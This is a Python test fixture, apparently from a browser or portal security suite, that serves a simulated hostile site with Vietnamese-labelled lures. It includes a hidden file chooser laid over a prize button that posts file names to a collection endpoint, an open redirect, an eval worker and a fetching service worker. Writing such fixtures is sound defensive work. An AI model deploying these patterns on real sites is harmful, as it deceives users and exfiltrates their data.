"""The hostile page: an allowed host in the wrong hands, and the host to which it wants to get out."""

from __future__ import annotations

import html
from typing import TYPE_CHECKING

from tests.portal.standins.abuses import ABUSES, Abuse
from tests.portal.standins.baits import BAITS, HONEST
from tests.portal.standins.web import NOT_FOUND, Request, Response, page, redirect

if TYPE_CHECKING:
    from tests.portal.standins.portals import Portals

PLACE = "/pha/"
"""Below this path any practice host is hostile."""
TRIED = f"{PLACE}da-thu"
"""Asked for by each attempt when it begins: what was never tried was not held either."""
FORM = '<!doctype html><html lang="vi"><meta charset="utf-8"><title>Tờ khai</title><h2>Tờ khai</h2>'
COVERED = (
    '<!doctype html><html lang="vi"><meta charset="utf-8"><title>Trúng thưởng</title>'
    '<div style="position: relative; height: 160px"><button style="width: 100%; height: 160px">Nhận quà</button>'
    '<input id="file" type="file" multiple style="position: absolute; inset: 0; height: 160px; opacity: 0"></div>'
    "<script>const f = document.getElementById('file'); f.onchange = () => fetch('/pha/thu', { method: 'POST',"
    " body: [...f.files].map(each => each.name).join() })</script>"
)
"""A button with a chooser of files over it that nobody sees."""
OPEN = (("Access-Control-Allow-Origin", "*"), ("Cache-Control", "no-store"))
WORKER = "importScripts === undefined || 0; onmessage = m => { eval(m.data) };"
SERVICE = (
    "self.addEventListener('install', () => self.skipWaiting());"
    "self.addEventListener('activate', event => event.waitUntil(clients.claim()));"
    "self.addEventListener('message', event =>"
    " event.waitUntil(fetch(event.data, { mode: 'no-cors' }).catch(() => 0)));"
)


def answer(portals: Portals, request: Request) -> Response:
    """What lies below the hostile path."""
    match request.path.removeprefix(PLACE):
        case "di-cho-khac":
            return redirect(request.query["den"])
        case "tho.js":
            return Response(body=WORKER.encode(), content_type="text/javascript")
        case "dich-vu.js":
            return Response(body=SERVICE.encode(), content_type="text/javascript")
        case "tai-ve":
            headers = (("Content-Disposition", 'attachment; filename="bien-nhan.pdf"'),)
            return Response(body=b"%PDF-1.4 practice", content_type="application/pdf", headers=headers)
        case "nut-che":
            return page(COVERED)
        case "trong":
            return page("<!doctype html><meta charset=utf-8><title>Trang trống</title><p>Trang trống</p>")
        case "thu" | "da-thu":
            portals.caught += [request.body.decode("utf-8", "replace")] if request.method == "POST" else []
            return Response(headers=OPEN)
    for abuse in ABUSES:
        if request.path == PLACE + abuse.name:
            return _page(portals, abuse)
    for bait in BAITS:
        if request.path == f"{PLACE}moi/{bait.name}":
            return page(f"{FORM}{'' if bait.alone else HONEST}{bait.body}")
    return NOT_FOUND


def elsewhere(_portals: Portals, _request: Request) -> Response:
    """A host that is nobody's business: whatever reaches it is recorded by the server, and welcome."""
    return page("<!doctype html><title>Đã ra ngoài</title><p>Đã ra ngoài</p>", headers=OPEN)


def _page(portals: Portals, abuse: Abuse) -> Response:
    """Tries it once when loaded and once when tapped: what needs a person's tap gets one."""
    port = portals.server.port
    text = (
        f'<!doctype html><html lang="vi"><meta charset="utf-8"><title>{abuse.name}</title>{abuse.head}'
        "<style>#tap { display: block; width: 100%; height: 160px; font-size: 30px; }</style>"
        f'<body><button id="tap">Tiếp tục</button>{abuse.body}<script>'
        f"const PORT = {port};"
        f"const told = () => {{ const x = new XMLHttpRequest(); x.open('GET', location.origin + '{TRIED}', false);"
        " x.send(); };"
        f"const tries = () => {{ told(); try {{ {abuse.script} }} catch (error) {{ window.R = String(error); }} }};"
        "document.getElementById('tap').addEventListener('click', tries);"
        f"{'tries();' if abuse.on_load else ''}"
        "</script></body></html>"
    )
    return page(
        text, headers=(*abuse.headers, ("X-Name", html.escape(abuse.name).encode("ascii", "ignore").decode()))
    )
